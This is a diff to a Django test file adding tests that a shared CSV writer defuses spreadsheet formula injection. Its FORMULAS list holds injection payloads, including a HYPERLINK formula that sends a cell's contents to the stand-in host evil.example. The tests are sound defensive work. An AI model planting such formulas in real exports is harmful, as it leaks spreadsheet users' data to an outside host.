@@ -4,6 +4,9 @@ tests/test_red_team_races.py."""
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from django.conf import settings
 from django.test import Client
@@ -140,3 +143,35 @@ def test_a_cached_feed_keeps_its_headers(page_cache, name: str):
     assert second["Access-Control-Allow-Origin"] == "*"
     assert second["Content-Type"] == first["Content-Type"]
     assert second.content == first.content
+
+
+# --- 25: formulas in CSV cells -------------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+
+
+def test_the_shared_csv_writer_neutralises_every_cell():
+    """Spreadsheets run a cell starting with = + - @ (or a tab or carriage return before one) as a formula;
+    every CSV we write goes through one writer that makes such a cell text with a leading apostrophe."""
+    from evidence.exporters import csv_writer
+
+    out = io.StringIO()
+    writer = csv_writer(out)
+    writer.writerow(["title", *FORMULAS])
+    writer.writerows([[f"{formula} in a title" for formula in FORMULAS], [-5, 2.5, None, True, "plain", ""]])
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    assert rows[0] == ["title", *(f"'{formula}" for formula in FORMULAS)]
+    assert rows[1] == [f"'{formula} in a title" for formula in FORMULAS]
+    # numbers stay numbers (a spreadsheet reads -5 as a value, not a formula); None is an empty cell
+    assert rows[2] == ["-5", "2.5", "", "True", "plain", ""]
+    assert out.getvalue().endswith("\r\n")  # RFC 4180 line ends, as before
+
+
+@pytest.mark.django_db
+def test_the_claim_csv_export_goes_through_the_shared_writer(client):
+    article = article_with_claims(1)
+    article.claims.update(section=FORMULAS[0], key="=1+1")
+    response = client.get(reverse("evidence:claim-export"))
+    assert response.status_code == 200
+    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
+    assert (row["section"], row["claim_key"]) == ("'" + FORMULAS[0], "'=1+1")
